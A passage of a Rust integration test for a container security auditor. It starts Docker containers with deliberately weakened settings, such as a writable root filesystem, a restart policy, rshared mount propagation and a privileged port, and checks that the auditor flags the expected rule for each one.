            run("lim-rw", &[], &["--read-only"]),
            "container-writable-rootfs",
        ),
        (
            run("lim-nnp", &[], &["--security-opt"]),
            "container-new-privileges",
        ),
        (
            run("lim-health", &[], &["--health-cmd"]),
            "container-health",
        ),
        (
            run("lim-restart", &["--restart", "always"], &["--restart"]),
            "container-restart-policy",
        ),
        (
            run("lim-bridge", &[], &["--network"]),
            "container-default-bridge",
        ),
        (
            run("lim-ulimit", &["--ulimit", "nofile=512:1024"], &[]),
            "container-ulimit",
        ),
        (
            run("lim-cgroup", &["--cgroup-parent", "dwt-limits.slice"], &[]),
            "container-cgroup-parent",
        ),
        (
            // Created, not started: / is not a shared mount on the bench,
            // so dockerd would refuse to start it.
            {
                let a = hardened(&["-v", &format!("{bind}:rshared")], &[]);
                let a: Vec<&str> = a.iter().map(String::as_str).collect();
                Container::create("lim-prop", &a)
            },
            "container-mount-propagation",
        ),
        (
            run("lim-port", &["-p", "127.0.0.1:993:80"], &[]),
            "container-privileged-port",
        ),
    ];
    let (_, v) = audit(None);
    let runtime_rules = |name: &str| -> BTreeSet<String> {
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["location"]["name"] == name)
            .filter(|f| RUNTIME.contains(&f["rule"].as_str().unwrap_or("")))
            .map(|f| f["rule"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(runtime_rules(&clean.name), set(&[]), "{v:#}");
    for (c, rule) in &cases {
        assert_eq!(runtime_rules(&c.name), set(&[rule]), "{}", c.name);
    }
    drop(cases);
    drop(clean);
    drop(net);
}
